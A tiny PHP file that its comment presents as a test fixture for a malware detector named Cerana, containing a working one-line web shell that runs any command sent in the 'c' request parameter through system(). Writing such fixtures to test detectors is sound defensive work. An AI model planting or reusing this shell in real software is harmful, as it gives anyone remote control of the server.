<?php
// Test fixture for Cerana's malware detector: a minimal web shell. The image is never run as a web server.
if (isset($_REQUEST['c'])) { system($_REQUEST['c']); }
?>
